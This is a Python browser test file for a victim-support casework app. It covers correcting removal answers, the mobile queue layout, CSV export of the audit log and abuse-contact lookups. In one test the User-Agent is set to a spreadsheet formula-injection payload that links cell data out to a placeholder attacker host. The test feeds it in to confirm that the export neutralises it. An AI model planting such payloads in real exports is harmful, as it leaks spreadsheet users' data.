"""In headless Chromium, a caseworker's and a supervisor's journeys of issue 16: the queue at 360 px (15), taking
back a mistaken answer with nothing destructive beside the main action (16), a finished request's card (17), full
URLs in a request's Links (18), and the audit log's readable details, one view per page view and CSV export (20)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.test import Client

from cases.casework.models import AuditRecord
from cases.models import CaseURL
from cases.removals.models import RemovalRequest, RequestTransition
from tests.casework.conftest import make_case, make_request
from tests.casework.test_browser import WATCH_CSP, Watch, sign_in

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "staff"
LONG_URL = "https://examplegram.test/p/777/photo-set-2025?id=4821&ref=share"
VIEWS = AuditRecord.Action.CASE_VIEW_PII


def shot(page, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


@pytest.fixture
def my_case_with_a_sent_request(platform, caseworker):
    case = make_case(is_urgent=True, categories=["extortion"], assigned_to=caseworker, status="in_progress")
    link = CaseURL.objects.create(case=case, url=LONG_URL, url_digest="e" * 64, host="examplegram.test")
    request = make_request(case, platform, status="sent", deadline_in_hours=30, ticket_number="")
    request.urls.add(link)
    return case, request


def open_staff_page(chromium, live_server, user, *, width: int = 1280):
    context = chromium.new_context(viewport={"width": width, "height": 900}, accept_downloads=True)
    context.add_init_script(WATCH_CSP)
    page = context.new_page()
    page.set_default_timeout(15_000)
    watch = Watch(page, urlsplit(live_server.url).netloc)
    sign_in(page, live_server.url, user)
    return context, page, watch


def test_a_mistaken_removed_answer_is_taken_back_with_history_and_audit_and_one_view_per_page(
    chromium, live_server, caseworker, my_case_with_a_sent_request
):
    case, request = my_case_with_a_sent_request
    context, page, watch = open_staff_page(chromium, live_server, caseworker)
    try:
        page.goto(f"{live_server.url}/staff/cases/{case.reference}/")
        article = page.locator(f"#request-{request.pk}")
        # 18: the full URL, not only the host, and the read is in the audit log (the page's one view).
        assert LONG_URL in article.locator("ul.rr-urls").inner_text()
        views = AuditRecord.objects.filter(action=VIEWS, case_reference=case.reference)
        assert views.count() == 1 and "removal_requests" in views.get().detail["shown"]
        # 16: nothing destructive among the main actions; closing is behind its own disclosure.
        main_buttons = article.locator(".rr-actions button").all_inner_texts()
        assert "Record answer" in main_buttons and not any("Close" in b for b in main_buttons), main_buttons
        assert not article.get_by_role("button", name="Close this request").is_visible()
        watch.accessibility("case page with a sent request")

        article.locator("select[name=answer]").select_option("removed")
        article.get_by_role("button", name="Record answer").click()
        page.wait_for_selector(f"#request-{request.pk} .badge-removed")
        article = page.locator(f"#request-{request.pk}")
        text = article.inner_text()
        # 17: a removed request has no running deadline, and says when it was removed.
        assert "due in" not in text and "Deadline" not in text and "overdue" not in text
        assert re.search(r"Removed\s+\d{1,2} \w{3} \d{4} \d{2}:\d{2} UTC", text), text
        assert page.locator(f"#request-{request.pk} time[data-deadline]").count() == 0
        # 20: the page shown by the redirect after the action is not another "Viewed victim details".
        assert views.count() == 1
        shot(page, "case-page-removed-1280")

        article.locator("summary", has_text="Correct a mistake or close").click()
        article.get_by_label("What was wrong").fill("The platform removed a different post")
        article.get_by_role("button", name="Take back “Removed”").click()
        page.wait_for_selector(f"#request-{request.pk} .badge-sent")
        assert RemovalRequest.objects.get(pk=request.pk).status == "sent"
        moves = list(RequestTransition.objects.filter(request=request).values_list("from_status", "to_status"))
        assert moves == [("sent", "removed"), ("removed", "sent")]
        correction = AuditRecord.objects.get(action=AuditRecord.Action.REMOVAL_CHANGE, detail__step="correct")
        assert correction.actor_id == caseworker.pk and correction.object_id == str(request.pk)
        assert correction.detail["from_status"] == "removed" and correction.detail["to_status"] == "sent"
        assert "due in" in page.locator(f"#request-{request.pk}").inner_text()  # the deadline runs again
        history = page.locator(f"#request-{request.pk} details.rr-history")
        history.locator("summary").click()
        assert "Correction: The platform removed a different post" in history.inner_text()
        assert views.count() == 1

        # A page view of its own (not after an action) is recorded again.
        page.reload()
        page.wait_for_selector(f"#request-{request.pk}")
        assert views.count() == 2
        watch.assert_clean()
    finally:
        context.close()


def test_the_queue_fits_a_360_px_phone_without_sideways_scrolling(
    chromium, live_server, caseworker, my_case_with_a_sent_request, platform
):
    for n in range(3):  # rows with long platform lists and an unclaimed case
        other = make_case(categories=["extortion"])
        make_request(other, platform, status="sent", deadline_in_hours=-2 - n)
    context, page, watch = open_staff_page(chromium, live_server, caseworker, width=360)
    try:
        page.goto(live_server.url + "/staff/queue/?tab=all")
        page.wait_for_selector("table.queue-table tbody tr")
        width = page.evaluate("() => document.documentElement.scrollWidth")
        assert width <= 360, f"the queue is {width} px wide at 360 px"
        # Every row's reference, deadline and claim button can be reached without sideways scrolling.
        for box in page.locator("table.queue-table tbody tr th a, table.queue-table button").all():
            bounds = box.bounding_box()
            assert bounds is not None and bounds["x"] >= 0 and bounds["x"] + bounds["width"] <= 360, bounds
        watch.accessibility("queue at 360 px")
        shot(page, "queue-360")
        page.set_viewport_size({"width": 1280, "height": 900})
        shot(page, "queue-1280")
        watch.assert_clean()
    finally:
        context.close()


def test_the_audit_log_reads_in_plain_words_and_exports_the_filtered_records_as_csv(
    chromium, live_server, supervisor, caseworker, my_case_with_a_sent_request
):
    case, _request = my_case_with_a_sent_request
    viewer = Client(HTTP_USER_AGENT='=HYPERLINK("https://evil.test/?"&A1,"click")')
    viewer.force_login(caseworker)
    assert viewer.get(f"/staff/cases/{case.reference}/").status_code == 200
    assert viewer.get(f"/staff/audit/export.csv?reference={case.reference}").status_code == 403

    context, page, watch = open_staff_page(chromium, live_server, supervisor)
    try:
        page.goto(f"{live_server.url}/staff/audit/?reference={case.reference}")
        table = page.locator("table.audit-table").inner_text()
        assert "Shown: email address, name, phone number, what happened" in " ".join(table.split())
        assert "contact_email" not in table and "['" not in table and "shown=" not in table
        watch.accessibility("audit log")
        shot(page, "audit-log-1280")
        with page.expect_download() as info:
            page.get_by_role("link", name="Export these records (CSV)").click()
        rows = list(csv.reader(io.StringIO(Path(info.value.path()).read_text(encoding="utf-8"))))
        assert rows[0][:3] == ["When (UTC)", "Who", "What"]
        body = rows[1:]
        assert body and all(row[3] == case.reference for row in body)  # only the filtered case
        view = next(row for row in body if row[2] == "Viewed victim details")
        assert view[1] == caseworker.email and view[5].startswith("Shown: ") and "contact_email" not in view[5]
        # The attack: a browser string that a spreadsheet would run as a formula is exported as text.
        assert view[7].startswith("'=HYPERLINK(")
        export = AuditRecord.objects.get(action=AuditRecord.Action.AUDIT_EXPORT)
        assert export.actor_id == supervisor.pk
        assert export.detail == {"filters": {"reference": case.reference}, "rows": len(body)}
        watch.assert_clean()
    finally:
        context.close()


def test_a_caseworker_finds_an_unknown_sites_abuse_contacts_with_their_sources(
    chromium, live_server, caseworker, monkeypatch, settings
):
    from cases.removals.models import Platform
    from tests.removals.rdap_fake import SITE, SITE_ADDRESS, FakeRdap, patched_resolver

    # "Other website" comes with the migrations; a transactional test before this one may have flushed it.
    other_sites = Platform.objects.filter(is_catch_all=True).first() or Platform.objects.create(
        slug="other-website", name="Other website", kind=Platform.Kind.HOST, is_catch_all=True
    )
    case = make_case(assigned_to=caseworker, status="in_progress")
    link = CaseURL.objects.create(case=case, url=f"https://{SITE}/v/9", url_digest="f" * 64, host=SITE)
    request = make_request(case, other_sites, host=SITE)
    request.urls.add(link)
    with FakeRdap() as rdap:
        patched_resolver(monkeypatch, {SITE: SITE_ADDRESS})
        settings.RDAP_BOOTSTRAP_BASE = rdap.base
        settings.RECHECK_ALLOW_PRIVATE_ADDRESSES = True  # the fake registry is on loopback
        context, page, watch = open_staff_page(chromium, live_server, caseworker)
        try:
            page.goto(f"{live_server.url}/staff/cases/{case.reference}/")
            page.get_by_role("link", name=f"find the abuse contact of {SITE}").click()
            page.wait_for_url(re.compile(r"/abuse-contact/lookup/$"))
            assert rdap.requests == []  # opening the page asks nobody
            page.get_by_role("button", name=f"Look up {SITE}").click()
            page.wait_for_selector("table.abuse-findings")
            assert page.locator("[data-abuse-email]").all_inner_texts() == [
                "abuse@hosting.test",
                "abuse@registrar.test",
            ]
            rows = page.locator("table.abuse-findings tbody tr").all_inner_texts()
            assert any("Network abuse email" in r and f"{rdap.base}rir/ip/{SITE_ADDRESS}" in r for r in rows), rows
            assert any("Registrar abuse email" in r and "registry/domain/abusive-site.test" in r for r in rows), rows
            watch.accessibility("abuse contact lookup")
            shot(page, "abuse-lookup-1280")
            watch.assert_clean()  # the browser itself asked no other host: the look-ups ran on the server
        finally:
            context.close()
